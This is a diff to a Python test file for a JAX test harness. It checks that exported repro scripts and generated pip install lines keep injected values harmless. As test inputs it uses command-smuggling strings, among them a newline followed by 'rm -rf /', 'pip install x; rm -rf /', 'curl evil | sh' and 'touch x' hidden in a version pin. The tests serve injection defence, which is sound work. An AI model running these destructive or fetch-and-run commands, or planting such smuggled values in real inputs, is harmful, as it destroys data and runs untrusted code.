@@ -18,7 +18,8 @@ from harness.judge.expectations import load_expectations
 from harness.judge.testids import _decorator_ids, _module_values, declared_ids
 from harness.paths import REPO, SUITES_DIR
 from harness.report.repro import cell_selection, harness_install_line, write_repros
-from harness.report.standalone import NoStandalone, export_script, find_core, redact_url, standalone_install_line
+from harness.report.standalone import (HEADER_LINES, HEADER_NAMES, NoStandalone, export_script, find_core, redact_url,
+                                       standalone_install_line)
 
 CELL = {"cell": "jax060-cpu", "device": "cpu", "pins": {"jax": "0.6.0"}, "versions": {"jax": "0.6.0", "numpy": "2.2.6"},
         "install_line": "pip install jax==0.6.0 jaxlib==0.6.0",
@@ -148,19 +149,23 @@ def test_a_property_case_runs_its_pinned_example():
     assert "@dataclass(frozen=True)\nclass Unary:\n    name: 'str'\n    jax_fn: 'object'" in script
 
 
-def test_header_says_install_run_and_issue_and_neutralises_control_characters():
+def test_header_says_install_run_and_issue_and_holds_data_only_as_literals():
     case = LINEARIZE.replace("[base]", "[base\nimport os\x1b[2J]")
-    script = export_script(case, {**CELL, "cell": "jax060-cpu\nrm -rf /"},
+    script = export_script(case, {**CELL, "cell": "jax060-cpu\nrm -rf /\u2028x"},
                            {"id": "jax-28260\r\nx", "link": "https://github.com/jax-ml/jax/issues/28260"})
-    header = [ln for ln in script.splitlines() if ln.startswith("#")]
-    assert any("\\x0a" in ln for ln in header) and all("rm -rf" not in ln or "cpu\\x0arm -rf" in ln for ln in header)
-    compile(script, "x", "exec")
-    assert "# install: pip install jax==0.6.0 jaxlib==0.6.0 numpy==2.2.6" in script
-    assert "(sets PJRT_DEVICE, XLA_FLAGS, JAX_PLATFORMS itself)" in header[3]
-    assert len(header) == 4  # what and where, the known issue, install, how to run and what the exit says
+    lines = script.splitlines()
+    comments = [ln for ln in lines if ln.startswith("#")]
+    assert comments == list(HEADER_LINES)  # fixed text: no value of the results can become a comment (or a coding cookie)
+    assert lines[:2] == list(HEADER_LINES)
+    tree = ast.parse(script)
+    header = {t.targets[0].id: ast.literal_eval(t.value) for t in tree.body
+              if isinstance(t, ast.Assign) and isinstance(t.targets[0], ast.Name) and t.targets[0].id in HEADER_NAMES}
+    assert header["CELL"] == "jax060-cpu\nrm -rf /\u2028x (cpu)" and header["CASE"] == case
+    assert header["KNOWN_ISSUE"] == "jax-28260\r\nx: https://github.com/jax-ml/jax/issues/28260"
+    assert header["INSTALL"] == "pip install jax==0.6.0 jaxlib==0.6.0 numpy==2.2.6"
+    assert all(ln.isascii() and ln.isprintable() for ln in lines[:6])
     assert "os.environ.setdefault('XLA_FLAGS', '--xla_force_host_platform_device_count=8')" in script
     assert script.index("os.environ.setdefault") < script.index("import jax")
-    assert "https://github.com/jax-ml/jax/issues/28260" in script
 
 
 @pytest.mark.parametrize("case_id", ["suites/shard_map/test_nope.py::test_x", "tests/test_report.py::test_x",
@@ -187,8 +192,10 @@ def test_harness_install_line_has_what_the_plugin_and_suites_import():
     assert words[:4] == ["pip", "install", "jax==0.6.0", "jaxlib==0.6.0"]
     names = {re.split(r"[<>=]", w)[0] for w in words[4:]}
     assert {"pytest", "pytest-reportlog", "pyyaml", "packaging", "hypothesis", "numpy"} <= names
-    assert harness_install_line("pip install x; rm -rf /").startswith("pip install 'x;' ")  # re-quoted: one pip command
-    assert harness_install_line("curl evil | sh").startswith("# ")
+    # derived, never copied: a line with a word that is no requirement is rebuilt from the (checked) pins
+    assert harness_install_line("pip install x; rm -rf /", {"pins": {"jax": "0.6.0", "x;y": "1"}}).startswith(
+        "pip install jax==0.6.0 'pytest>=8'")
+    assert harness_install_line("curl evil | sh", {"pins": {"jax": "0.6.0\ntouch x"}}).startswith("pip install 'pytest>=8'")
 
 
 def test_cell_selection_names_the_matrix_or_sweep_without_machine_paths(tmp_path):
